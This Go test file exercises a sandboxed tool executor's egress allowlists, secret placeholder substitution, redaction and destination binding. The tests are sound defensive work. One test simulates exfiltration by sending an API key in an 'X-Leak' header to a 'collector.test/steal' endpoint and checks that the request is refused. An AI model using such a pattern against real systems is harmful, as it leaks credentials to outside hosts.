package executor_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sandboxd/sandboxd/egress"
	"github.com/sandboxd/sandboxd/executor"
	"github.com/sandboxd/sandboxd/toolerr"
)

// testResolver resolves every *.test name to 127.0.0.1 without DNS.
type testResolver struct{}

func (testResolver) LookupNetIP(ctx context.Context, network, host string) ([]netip.Addr, error) {
	if strings.HasSuffix(host, ".test") {
		return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

// loopbackEgress lets guests reach loopback test servers as an operator
// would: --egress-allow-cidr 127.0.0.0/8, and *.test names on 127.0.0.1.
func loopbackEgress(c executor.Config) executor.Config {
	return c.WithEgressAllowCIDRs(netip.MustParsePrefix("127.0.0.0/8")).WithEgressResolver(testResolver{})
}

func withNetwork(kind string, hosts ...string) func(m map[string]any) {
	return func(m map[string]any) {
		n := map[string]any{"kind": kind}
		if kind == "allowlist" {
			n["hosts"] = hosts
		}
		m["network"] = n
	}
}

func serverPort(t testing.TB, srv *httptest.Server) string {
	t.Helper()
	_, port, err := net.SplitHostPort(strings.TrimPrefix(srv.URL, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	return port
}

func fetchInput(url string, headers map[string]string) string {
	b, _ := json.Marshal(map[string]any{"url": url, "headers": headers})
	return string(b)
}

// A Go handler fetches JSON through net/http and sdkhttp.Transport from an
// allowlisted loopback server; the same request to a name that is not
// listed is denied, and so is every request under network none.
func TestGuestFetchesFromAllowlistedServer(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"items":[1,2,3],"path":%q,"host":%q}`, r.URL.Path, r.Host)
	}))
	defer srv.Close()
	port := serverPort(t, srv)
	e := newExecutor(t, loopbackEgress)
	tool := load(t, e, "http_fetch_reactor", withNetwork("allowlist", "api.test:"+port))

	res, err := invoke(t, tool, fetchInput("http://api.test:"+port+"/v1/items", nil))
	if err != nil {
		t.Fatal(err)
	}
	jsonEqual(t, res.Output, `{"status":200,"contentType":"application/json","json":{"items":[1,2,3],"path":"/v1/items","host":"api.test:`+port+`"}}`)

	if len(res.Egress) != 1 || !res.Egress[0].Allowed || res.Egress[0].Rule != "api.test:"+port ||
		res.Egress[0].Address != "127.0.0.1:"+port || res.Egress[0].Status != 200 || res.Egress[0].ResponseBytes == 0 {
		t.Fatalf("audit %+v", res.Egress)
	}

	res, err = invoke(t, tool, fetchInput("http://other.test:"+port+"/v1/items", nil))
	te := wantCode(t, err, toolerr.HandlerError)
	if res == nil || len(res.Egress) != 1 || res.Egress[0].Allowed || !strings.Contains(res.Egress[0].Reason, "no network.hosts entry") {
		t.Fatalf("audit of the denied call: %+v", res)
	}
	if te.Details["handlerCode"] != "egress-denied" || !strings.Contains(te.Message, "not allowed by the tool's network policy") {
		t.Fatalf("unlisted host: %v %v", te.Details, te.Message)
	}
	_, err = invoke(t, tool, fetchInput("http://127.0.0.1:"+port+"/", nil))
	if te := wantCode(t, err, toolerr.HandlerError); te.Details["handlerCode"] != "egress-denied" {
		t.Fatalf("IP literal against a hostname entry: %v", te.Details)
	}

	none := load(t, e, "http_fetch_reactor", withNetwork("none"))
	_, err = invoke(t, none, fetchInput("http://api.test:"+port+"/v1/items", nil))
	if te := wantCode(t, err, toolerr.HandlerError); te.Details["handlerCode"] != "egress-denied" {
		t.Fatalf("network none: %v", te.Details)
	}
	// Absent network is none.
	absent := load(t, e, "http_fetch_reactor", nil)
	_, err = invoke(t, absent, fetchInput("http://api.test:"+port+"/", nil))
	if te := wantCode(t, err, toolerr.HandlerError); te.Details["handlerCode"] != "egress-denied" {
		t.Fatalf("no network: %v", te.Details)
	}
}

// Without the operator's allow-range, a listed name that resolves to
// loopback is still denied.
func TestGuestLoopbackNeedsOperatorRange(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "{}") }))
	defer srv.Close()
	port := serverPort(t, srv)
	e := newExecutor(t, func(c executor.Config) executor.Config { return c.WithEgressResolver(testResolver{}) })
	tool := load(t, e, "http_fetch_reactor", withNetwork("allowlist", "api.test:"+port))
	_, err := invoke(t, tool, fetchInput("http://api.test:"+port+"/", nil))
	te := wantCode(t, err, toolerr.HandlerError)
	if te.Details["handlerCode"] != "egress-denied" || !strings.Contains(te.Message, "127.0.0.1 (loopback)") {
		t.Fatalf("loopback without allow-range: %v %s", te.Details, te.Message)
	}
}

func TestInvalidNetworkEntryRefusedAtLoad(t *testing.T) {
	e := newExecutor(t)
	_, err := e.Load(context.Background(), manifestFor(t, "http_fetch_reactor", withNetwork("allowlist", "api.example.com", "http://user@evil.example")))
	te := wantCode(t, err, toolerr.InvalidToolDefinition)
	if !strings.Contains(te.Message, `network.hosts[1] "http://user@evil.example"`) || te.Details["pointer"] != "/network/hosts/1" {
		t.Fatalf("message %q details %v", te.Message, te.Details)
	}
}

// Under strict the guest cannot read a secret, but a header placeholder is
// substituted by the host for an allowlisted destination.
func TestStrictSecretHeaderSubstitution(t *testing.T) {
	seen := make(chan string, 2)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		seen <- r.Header.Get("Authorization")
		fmt.Fprint(w, `{"ok":true}`)
	}))
	defer srv.Close()
	port := serverPort(t, srv)
	e := newExecutor(t, loopbackEgress, func(c executor.Config) executor.Config {
		return c.WithSecrets(executor.Secrets{"API_TOKEN": "from-operator", "UNDECLARED": "nope"})
	})
	tool := load(t, e, "http_fetch_reactor", func(m map[string]any) {
		withNetwork("allowlist", "api.test:"+port)(m)
		m["sandbox"] = "strict"
		m["needsSpec"] = map[string]any{"secrets": map[string]any{"API_TOKEN": map[string]any{"type": "string"}}}
	})
	res, err := invoke(t, tool, fetchInput("http://api.test:"+port+"/", map[string]string{"Authorization": "Bearer {{secret:API_TOKEN}}"}))
	if err != nil {
		t.Fatal(err)
	}
	if got := <-seen; got != "Bearer from-operator" {
		t.Fatalf("server saw %q", got)
	}
	if strings.Contains(string(res.Output), "from-operator") {
		t.Fatal("the secret reached the output")
	}
	// An undeclared name is never looked up, even if the operator has it.
	_, err = invoke(t, tool, fetchInput("http://api.test:"+port+"/", map[string]string{"Authorization": "{{secret:UNDECLARED}}"}))
	te := wantCode(t, err, toolerr.HandlerError)
	if te.Details["handlerCode"] != "egress-not-found" || strings.Contains(te.Message, "nope") {
		t.Fatalf("undeclared secret: %v %s", te.Details, te.Message)
	}
	// The call context's value wins over the operator's.
	_, err = tool.Invoke(context.Background(), executor.Request{
		Input:   []byte(fetchInput("http://api.test:"+port+"/", map[string]string{"Authorization": "{{secret:API_TOKEN}}"})),
		Context: executor.CallContext{TenantID: "t", RunID: "r", Secrets: map[string]string{"API_TOKEN": "from-ctx"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	if got := <-seen; got != "from-ctx" {
		t.Fatalf("server saw %q", got)
	}
}

// Time blocked in the HTTP import is not CPU time; cancelling the call or
// passing its deadline aborts the request at once.
func TestGuestRequestBlockingAndCancellation(t *testing.T) {
	release := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/slow" {
			select {
			case <-time.After(1500 * time.Millisecond):
			case <-r.Context().Done():
				return
			}
			fmt.Fprint(w, `{"slow":true}`)
			return
		}
		select {
		case <-release:
		case <-r.Context().Done():
		}
	}))
	defer srv.Close()
	defer close(release)
	port := serverPort(t, srv)
	e := newExecutor(t, loopbackEgress)
	tool := load(t, e, "http_fetch_reactor", func(m map[string]any) {
		withNetwork("allowlist", "api.test:"+port)(m)
		m["limits"] = map[string]any{"memMB": 64, "cpuMs": 1000}
	})

	res, err := invoke(t, tool, fetchInput("http://api.test:"+port+"/slow", nil))
	if err != nil {
		t.Fatal(err)
	}
	if res.Usage.WallMs < 1500 || res.Usage.CPUMs >= 1000 {
		t.Fatalf("usage %+v: blocked time was charged as CPU", res.Usage)
	}

	ctx, cancel := context.WithCancel(context.Background())
	time.AfterFunc(200*time.Millisecond, cancel)
	start := time.Now()
	_, err = tool.Invoke(ctx, executor.Request{Input: []byte(fetchInput("http://api.test:"+port+"/hang", nil)), Context: executor.CallContext{TenantID: "t", RunID: "r"}})
	wantCode(t, err, toolerr.Cancelled)
	if d := time.Since(start); d > 5*time.Second {
		t.Fatalf("cancellation took %v", d)
	}

	ctx, cancel = context.WithTimeout(context.Background(), 300*time.Millisecond)
	defer cancel()
	_, err = tool.Invoke(ctx, executor.Request{Input: []byte(fetchInput("http://api.test:"+port+"/hang", nil)), Context: executor.CallContext{TenantID: "t", RunID: "r"}})
	wantCode(t, err, toolerr.DeadlineExceeded)
}

// secret_get: declared secrets from the call context or the operator;
// refused under strict; declared secrets are checked before the guest runs.
func TestSecretGetAndChecks(t *testing.T) {
	e := newExecutor(t, func(c executor.Config) executor.Config {
		return c.WithSecrets(executor.Secrets{"OP_ONLY": "operator-value", "UNDECLARED": "x"})
	})
	secrets := map[string]any{
		"TOKEN":   map[string]any{"type": "string", "minLength": 8},
		"OP_ONLY": map[string]any{"type": "string"},
	}
	tool := load(t, e, "http_fetch_reactor", func(m map[string]any) {
		m["needsSpec"] = map[string]any{"secrets": secrets}
	})
	call := func(tool *executor.Tool, name string, given map[string]string) (*executor.Result, error) {
		return tool.Invoke(context.Background(), executor.Request{
			Input:   []byte(`{"secret":"` + name + `"}`),
			Context: executor.CallContext{TenantID: "t", RunID: "r", Secrets: given},
		})
	}
	res, err := call(tool, "TOKEN", map[string]string{"TOKEN": "ctx-value-1"})
	if err != nil {
		t.Fatal(err)
	}
	jsonEqual(t, res.Output, `{"status":0,"contentType":"","secret":"ctx-value-1"}`)
	res, err = call(tool, "OP_ONLY", map[string]string{"TOKEN": "ctx-value-1"})
	if err != nil {
		t.Fatal(err)
	}
	jsonEqual(t, res.Output, `{"status":0,"contentType":"","secret":"operator-value"}`)
	_, err = call(tool, "UNDECLARED", map[string]string{"TOKEN": "ctx-value-1", "UNDECLARED": "y"})
	if te := wantCode(t, err, toolerr.HandlerError); te.Details["handlerCode"] != "egress-not-found" {
		t.Fatalf("undeclared: %v", te.Details)
	}

	// Missing and invalid values fail before the guest runs, without the value.
	_, err = call(tool, "TOKEN", nil)
	te := wantCode(t, err, toolerr.InputValidationFailed)
	if te.Issues[0].Params["missingProperty"] != "TOKEN" {
		t.Fatalf("issues %+v", te.Issues)
	}
	_, err = call(tool, "TOKEN", map[string]string{"TOKEN": "shrt"})
	te = wantCode(t, err, toolerr.InputValidationFailed)
	if te.Issues[0].InstancePath != "/ctx/secrets/TOKEN" || te.Issues[0].Keyword != "minLength" {
		t.Fatalf("issues %+v", te.Issues)
	}
	if b, _ := json.Marshal(te); strings.Contains(string(b), "shrt") || strings.Contains(te.Error(), "shrt") {
		t.Fatalf("the error carries the secret: %s", b)
	}

	// An optional secret (a needs entry with optional: true) may be absent.
	opt := load(t, e, "http_fetch_reactor", func(m map[string]any) {
		m["needsSpec"] = map[string]any{"secrets": map[string]any{"MAYBE": map[string]any{"type": "string"}}}
		m["needs"] = []map[string]any{{"name": "MAYBE", "optional": true}}
	})
	_, err = call(opt, "MAYBE", nil)
	if te := wantCode(t, err, toolerr.HandlerError); te.Details["handlerCode"] != "egress-not-found" {
		t.Fatalf("optional: %v", te.Details)
	}

	strict := load(t, e, "http_fetch_reactor", func(m map[string]any) {
		m["sandbox"] = "strict"
		m["needsSpec"] = map[string]any{"secrets": secrets}
	})
	_, err = call(strict, "TOKEN", map[string]string{"TOKEN": "ctx-value-1"})
	te = wantCode(t, err, toolerr.HandlerError)
	if te.Details["handlerCode"] != "egress-denied" || strings.Contains(te.Message, "ctx-value-1") {
		t.Fatalf("strict: %v %s", te.Details, te.Message)
	}
}

// Concurrent calls each get their own egress session: responses never
// cross between calls.
func TestGuestFetchConcurrent(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `{"path":%q}`, r.URL.Path)
	}))
	defer srv.Close()
	port := serverPort(t, srv)
	e := newExecutor(t, loopbackEgress)
	tool := load(t, e, "http_fetch_reactor", withNetwork("allowlist", "api.test:"+port))
	const n = 4
	errs := make(chan error, n)
	for i := range n {
		go func() {
			path := fmt.Sprintf("/call/%d", i)
			res, err := invoke(t, tool, fetchInput("http://api.test:"+port+path, nil))
			if err != nil {
				errs <- err
				return
			}
			if !strings.Contains(string(res.Output), `"path":"`+path+`"`) || len(res.Egress) != 1 {
				errs <- fmt.Errorf("call %d got %s (audit %d)", i, res.Output, len(res.Egress))
				return
			}
			errs <- nil
		}()
	}
	for range n {
		if err := <-errs; err != nil {
			t.Error(err)
		}
	}
}

const f08Secret = "sk-live-THIS-IS-THE-SECRET"

// echoServer is a loopback server that reflects the request as servers in
// the wild do: every request header in its JSON body, in X-Echo-* response
// headers and in a Content-Type parameter; /status/N answers N with the same
// body; /big?n=N sends an N-byte JSON string, /ctl?n=N N bytes 0x01. paths records request paths
// as sent (escaped).
func echoServer(t *testing.T) (*httptest.Server, chan string) {
	t.Helper()
	paths := make(chan string, 64)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case paths <- r.URL.EscapedPath():
		default:
		}
		if strings.HasPrefix(r.URL.Path, "/ctl") {
			n, _ := strconv.Atoi(r.URL.Query().Get("n"))
			_, _ = w.Write(bytes.Repeat([]byte{1}, n))
			return
		}
		if strings.HasPrefix(r.URL.Path, "/big") {
			n, _ := strconv.Atoi(r.URL.Query().Get("n"))
			w.Header().Set("Content-Type", "application/json")
			_, _ = io.WriteString(w, `"`)
			chunk := strings.Repeat("a", 1<<16)
			for n > 0 {
				k := min(n, len(chunk))
				if _, err := io.WriteString(w, chunk[:k]); err != nil {
					return
				}
				n -= k
			}
			_, _ = io.WriteString(w, `"`)
			return
		}
		status := 200
		if s, ok := strings.CutPrefix(r.URL.Path, "/status/"); ok {
			status, _ = strconv.Atoi(s)
		}
		for k, vs := range r.Header {
			w.Header()["X-Echo-"+k] = vs
		}
		w.Header().Set("Content-Type", "application/json; reflected="+r.Header.Get("X-Anything"))
		w.WriteHeader(status)
		_ = json.NewEncoder(w).Encode(map[string]any{"path": r.URL.Path, "requestURI": r.RequestURI, "headers": r.Header})
	}))
	t.Cleanup(srv.Close)
	return srv, paths
}

// F08: a strict guest sending {{secret:API_KEY}} in any header to an
// allowlisted server that reflects it never reads the value back: not in
// the body it reads, not in the response headers (here Content-Type, which
// the fixture returns), not in errors; the server did get the value.
func TestF08SecretReflection(t *testing.T) {
	srv, _ := echoServer(t)
	port := serverPort(t, srv)
	e := newExecutor(t, loopbackEgress, func(c executor.Config) executor.Config {
		return c.WithSecrets(executor.Secrets{"API_KEY": f08Secret})
	})
	tool := load(t, e, "http_fetch_reactor", func(m map[string]any) {
		withNetwork("allowlist", "api.test:"+port)(m)
		m["sandbox"] = "strict"
		m["needsSpec"] = map[string]any{"secrets": map[string]any{"API_KEY": map[string]any{"type": "string"}}}
	})
	res, err := invoke(t, tool, fetchInput("http://api.test:"+port+"/anything", map[string]string{
		"X-Anything": "{{secret:API_KEY}}", "X-Request-Id": "req-{{secret:API_KEY}}-1", "Authorization": "Bearer {{secret:API_KEY}}",
	}))
	if err != nil {
		t.Fatal(err)
	}
	out := string(res.Output)
	if strings.Contains(out, "THIS-IS-THE") || strings.Contains(fmt.Sprintf("%+v", res), "THIS-IS-THE") {
		t.Fatalf("the strict guest read its secret back: %s", out)
	}
	var o struct {
		ContentType string `json:"contentType"`
		JSON        struct {
			Headers map[string][]string `json:"headers"`
		} `json:"json"`
	}
	if err := json.Unmarshal(res.Output, &o); err != nil {
		t.Fatal(err)
	}
	marker := "[REDACTED:API_KEY]"
	// The server saw the value (the body says so, redacted on the way back).
	if o.JSON.Headers["X-Anything"][0] != marker || o.JSON.Headers["X-Request-Id"][0] != "req-"+marker+"-1" ||
		o.JSON.Headers["Authorization"][0] != "Bearer "+marker || o.ContentType != "application/json; reflected="+marker {
		t.Fatalf("reflection not redacted as expected: %s", out)
	}
	// An error answer carrying the value in its message path: the guest's
	// own error (not-json) never had it; egress errors never carry it.
	_, err = invoke(t, tool, fetchInput("http://api.test:"+port+"/anything", map[string]string{"X-Anything": "{{secret:NOPE}}"}))
	if err == nil || strings.Contains(err.Error(), f08Secret) {
		t.Fatalf("undeclared placeholder: %v", err)
	}
}

// F08.3: the header cap is checked on the placeholder form: padding that
// fits with the placeholder is sent whatever the secret's length, and the
// refusal one byte over names no size derived from the value.
func TestF08HeaderSizeNoLength(t *testing.T) {
	srv, _ := echoServer(t)
	port := serverPort(t, srv)
	for _, secret := range []string{"s", f08Secret, strings.Repeat("k", 5000)} {
		e := newExecutor(t, loopbackEgress, func(c executor.Config) executor.Config {
			return c.WithSecrets(executor.Secrets{"API_KEY": secret}).WithEgressLimits(egress.Limits{MaxRequestHeaderBytes: 4096})
		})
		tool := load(t, e, "http_fetch_reactor", func(m map[string]any) {
			withNetwork("allowlist", "api.test:"+port)(m)
			m["sandbox"] = "strict"
			m["needsSpec"] = map[string]any{"secrets": map[string]any{"API_KEY": map[string]any{"type": "string"}}}
		})
		// The guest's net/http adds no headers of its own through
		// sdkhttp beyond those given, so the placeholder form is
		// len("X-Pad")+pad+4 + len("X-S")+len("{{secret:API_KEY}}")+4.
		fits := 4096 - (5 + 4) - (3 + 18 + 4)
		var got []string
		for _, pad := range []int{fits - 200, fits + 1} {
			_, err := invoke(t, tool, fetchInput("http://api.test:"+port+"/anything", map[string]string{
				"X-Pad": strings.Repeat("a", pad), "X-S": "{{secret:API_KEY}}",
			}))
			if err != nil {
				te := wantCode(t, err, toolerr.HandlerError)
				got = append(got, fmt.Sprint(te.Details["handlerCode"]))
				if len(secret) > 1 && (strings.Contains(te.Message, strconv.Itoa(len(secret))) || strings.Contains(te.Message, strconv.Itoa(pad+len(secret)))) {
					t.Fatalf("the refusal reveals a size derived from the secret: %s", te.Message)
				}
				t.Logf("secret of %d bytes, pad %d: %s", len(secret), pad, te.Message)
			} else {
				got = append(got, "ok")
			}
		}
		if strings.Join(got, ",") != "ok,egress-header-budget-exceeded" {
			t.Fatalf("secret of %d bytes: %v (the outcome must not depend on the value's length)", len(secret), got)
		}
	}
}

// --secret-destination: a bound secret goes only to its destinations, even
// when the tool's allowlist admits others; the refusal names the secret and
// the destination, never the value, and nothing is sent.
func TestSecretDestinationBindingGuest(t *testing.T) {
	srv, paths := echoServer(t)
	port := serverPort(t, srv)
	dests, err := egress.ParseSecretDestinations([]string{"API_KEY=http://api.test:" + port})
	if err != nil {
		t.Fatal(err)
	}
	e := newExecutor(t, loopbackEgress, func(c executor.Config) executor.Config {
		return c.WithSecrets(executor.Secrets{"API_KEY": f08Secret}).WithSecretDestinations(dests)
	})
	tool := load(t, e, "http_fetch_reactor", func(m map[string]any) {
		withNetwork("allowlist", "api.test:"+port, "collector.test:"+port)(m)
		m["sandbox"] = "strict"
		m["needsSpec"] = map[string]any{"secrets": map[string]any{"API_KEY": map[string]any{"type": "string"}}}
	})
	if _, err := invoke(t, tool, fetchInput("http://api.test:"+port+"/ok", map[string]string{"Authorization": "{{secret:API_KEY}}"})); err != nil {
		t.Fatal(err)
	}
	<-paths
	res, err := invoke(t, tool, fetchInput("http://collector.test:"+port+"/steal", map[string]string{"X-Leak": "{{secret:API_KEY}}"}))
	te := wantCode(t, err, toolerr.HandlerError)
	if te.Details["handlerCode"] != "egress-denied" || !strings.Contains(te.Message, `secret "API_KEY" may not be sent to http://collector.test:`+port) {
		t.Fatalf("bound secret to another destination: %v %s", te.Details, te.Message)
	}
	if b, _ := json.Marshal(te); strings.Contains(string(b), f08Secret) || strings.Contains(fmt.Sprintf("%+v", res), f08Secret) {
		t.Fatal("the refusal carries the value")
	}
	select {
	case p := <-paths:
		t.Fatalf("a request went out: %s", p)
	default:
	}
	// Without a placeholder the same destination is fine.
	if _, err := invoke(t, tool, fetchInput("http://collector.test:"+port+"/plain", nil)); err != nil {
		t.Fatal(err)
	}
}

// F09: an IP entry admits its address only for its own scheme and port:
// hosts ["http://127.0.0.1:9", "*.corp.test:*"] with svc.corp.test ->
// 127.0.0.1 must not reach 127.0.0.1:PORT through the name. Fake resolver,
// recording dialer (only loopback is ever dialled).
func TestF09IPEntryScope(t *testing.T) {
	srv, _ := echoServer(t)
	port := serverPort(t, srv)
	var mu sync.Mutex
	var dials []string
	dial := func(ctx context.Context, network, addr string) (net.Conn, error) {
		mu.Lock()
		dials = append(dials, addr)
		mu.Unlock()
		if host, _, _ := net.SplitHostPort(addr); host != "127.0.0.1" {
			return nil, fmt.Errorf("test dialer refuses %s", addr)
		}
		return (&net.Dialer{Timeout: time.Second}).DialContext(ctx, "tcp", addr)
	}
	take := func() []string {
		mu.Lock()
		defer mu.Unlock()
		d := dials
		dials = nil
		return d
	}
	e := newExecutor(t, func(c executor.Config) executor.Config {
		return c.WithEgressResolver(testResolver{}).WithEgressDialer(dial)
	})
	cases := []struct {
		hosts []string
		url   string
		ok    bool
	}{
		{[]string{"http://127.0.0.1:9", "*.corp.test:*"}, "http://svc.corp.test:" + port + "/via-name", false},
		{[]string{"http://127.0.0.1:" + port, "*.corp.test:*"}, "http://svc.corp.test:" + port + "/via-name-same-port", false},
		{[]string{"http://127.0.0.1:9"}, "http://127.0.0.1:" + port + "/other-port", false},
		{[]string{"https://127.0.0.1:" + port}, "http://127.0.0.1:" + port + "/other-scheme", false},
		{[]string{"http://127.0.0.1:" + port}, "http://127.0.0.1:" + port + "/its-own", true},
		{[]string{"127.0.0.0/8:*"}, "http://127.0.0.1:" + port + "/cidr-any-port", true},
	}
	for _, c := range cases {
		tool := load(t, e, "http_fetch_reactor", withNetwork("allowlist", c.hosts...))
		_, err := invoke(t, tool, fetchInput(c.url, nil))
		d := take()
		if c.ok {
			if err != nil || len(d) != 1 {
				t.Errorf("%v %s: %v, dialled %v", c.hosts, c.url, err, d)
			}
			continue
		}
		if err == nil || len(d) != 0 {
			t.Errorf("%v %s: want denied without a dial, got %v, dialled %v", c.hosts, c.url, err, d)
			continue
		}
		if te := wantCode(t, err, toolerr.HandlerError); te.Details["handlerCode"] != "egress-denied" {
			t.Errorf("%v %s: %v", c.hosts, c.url, te.Details)
		}
	}
}

// An operator secret with a scope is given only to the tools its patterns
// name; to any other tool that declares it, it does not exist.
func TestSecretScope(t *testing.T) {
	scopes, err := executor.ParseSecretScopes([]string{"OP_ONLY=acme.*,billing.fetch"})
	if err != nil {
		t.Fatal(err)
	}
	e := newExecutor(t, func(c executor.Config) executor.Config {
		return c.WithSecrets(executor.Secrets{"OP_ONLY": "operator-value", "FREE": "free-value"}).WithSecretScopes(scopes)
	})
	loadAs := func(id string) *executor.Tool {
		return load(t, e, "http_fetch_reactor", func(m map[string]any) {
			m["id"] = id
			m["needsSpec"] = map[string]any{"secrets": map[string]any{"OP_ONLY": map[string]any{"type": "string"}, "FREE": map[string]any{"type": "string"}}}
			m["needs"] = []map[string]any{{"name": "OP_ONLY", "optional": true}, {"name": "FREE", "optional": true}}
		})
	}
	call := func(tool *executor.Tool, name string) (string, error) {
		res, err := tool.Invoke(context.Background(), executor.Request{
			Input:   []byte(`{"secret":"` + name + `"}`),
			Context: executor.CallContext{TenantID: "t", RunID: "r"},
		})
		if err != nil {
			return "", err
		}
		return string(res.Output), nil
	}
	for _, id := range []string{"acme.fetch", "billing.fetch"} {
		out, err := call(loadAs(id), "OP_ONLY")
		if err != nil || !strings.Contains(out, "operator-value") {
			t.Fatalf("%s in scope: %s %v", id, out, err)
		}
	}
	other := loadAs("other.fetch")
	out, err := call(other, "OP_ONLY")
	if strings.Contains(out, "operator-value") {
		t.Fatalf("a tool outside the scope read the secret: %s", out)
	}
	if te := wantCode(t, err, toolerr.HandlerError); te.Details["handlerCode"] != "egress-not-found" {
		t.Fatalf("out of scope: %v", te.Details)
	}
	if b, _ := json.Marshal(err); strings.Contains(string(b), "operator-value") {
		t.Fatalf("the error carries the secret: %s", b)
	}
	// An unscoped secret still goes to any tool that declares it.
	if out, err := call(other, "FREE"); err != nil || !strings.Contains(out, "free-value") {
		t.Fatalf("unscoped secret: %s %v", out, err)
	}
	for _, bad := range []string{"OP_ONLY", "=acme.*", "OP_ONLY=", "OP_ONLY=[x"} {
		if _, err := executor.ParseSecretScopes([]string{bad}); err == nil {
			t.Errorf("ParseSecretScopes(%q) accepted", bad)
		}
	}
}
